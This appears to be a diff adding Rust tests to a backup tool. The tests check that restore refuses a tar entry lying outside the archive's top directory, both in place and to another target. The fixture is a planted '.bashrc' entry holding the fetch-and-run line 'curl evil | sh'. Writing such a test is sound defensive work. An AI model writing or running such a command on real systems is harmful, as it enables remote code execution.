@@ -187,3 +187,99 @@ fn partial_files_of_killed_runs_are_reported_by_inventory_and_removed_by_the_nex
         text(&out)
     );
 }
+
+/// A tar archive of raw entries: (name, type, link target, data, mtime).
+fn raw_tar(entries: &[(&str, tar::EntryType, &str, &[u8], u64)]) -> Vec<u8> {
+    let mut out = Vec::new();
+    for (name, kind, link, data, mtime) in entries {
+        let mut header = tar::Header::new_gnu();
+        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
+        header.as_old_mut().linkname[..link.len()].copy_from_slice(link.as_bytes());
+        header.set_entry_type(*kind);
+        header.set_size(data.len() as u64);
+        header.set_mode(0o644);
+        header.set_mtime(*mtime);
+        header.set_cksum();
+        out.extend_from_slice(header.as_bytes());
+        out.extend_from_slice(data);
+        out.resize(out.len().div_ceil(512) * 512, 0);
+    }
+    out.extend_from_slice(&[0; 1024]);
+    out
+}
+
+/// Plants `tar` in the local destination as the archive of directory `source`, and has the
+/// ledger learn it from the destination, as after a lost ledger.
+fn plant_directory_archive(sb: &Sandbox, config: &str, source: &Path, tar: &[u8]) {
+    let started = time::macros::datetime!(2026-01-01 0:00 UTC);
+    let key = glacier_backup::archiver::keys::archive_key(source, started, true);
+    let file = sb.path("archives").join(key);
+    fs::create_dir_all(file.parent().unwrap()).unwrap();
+    fs::write(&file, tar).unwrap();
+    let rebuilt = sb.run(&["-c", config, "inventory", "--rebuild-ledger"]);
+    assert_exit(&rebuilt, 0);
+    assert!(
+        text(&rebuilt).contains("ledger rows added: 1"),
+        "{}",
+        text(&rebuilt)
+    );
+}
+
+#[test]
+fn an_entry_outside_the_archives_top_directory_is_refused_in_place_and_elsewhere() {
+    let sb = Sandbox::new();
+    let config = sb.local_config("");
+    let config = config.to_str().unwrap();
+    let home = sb.path("home/u");
+    fs::create_dir_all(home.join("photos")).unwrap();
+    fs::write(home.join(".bashrc"), b"the user's own").unwrap();
+    let future = 4_000_000_000;
+    let tar = raw_tar(&[
+        ("photos/", tar::EntryType::Directory, "", b"", 1_600_000_000),
+        (
+            "photos/a.jpg",
+            tar::EntryType::Regular,
+            "",
+            b"jpg",
+            1_600_000_000,
+        ),
+        (
+            ".bashrc",
+            tar::EntryType::Regular,
+            "",
+            b"curl evil | sh",
+            future,
+        ),
+    ]);
+    plant_directory_archive(&sb, config, &home.join("photos"), &tar);
+
+    let out = sb.run(&[
+        "-c",
+        config,
+        "restore",
+        "--in-place",
+        home.join("photos").to_str().unwrap(),
+    ]);
+    assert_exit(&out, 1);
+    assert!(
+        text(&out).contains(
+            "not restoring archive entry \".bashrc\": it is not under the archive's top directory"
+        ),
+        "{}",
+        text(&out)
+    );
+    assert_eq!(fs::read(home.join(".bashrc")).unwrap(), b"the user's own");
+    assert_eq!(fs::read(home.join("photos/a.jpg")).unwrap(), b"jpg");
+
+    let out = sb.run(&[
+        "-c",
+        config,
+        "restore",
+        "--to",
+        "elsewhere",
+        home.join("photos").to_str().unwrap(),
+    ]);
+    assert_exit(&out, 1);
+    assert!(!sb.path("elsewhere/.bashrc").exists());
+    assert_eq!(fs::read(sb.path("elsewhere/photos/a.jpg")).unwrap(), b"jpg");
+}
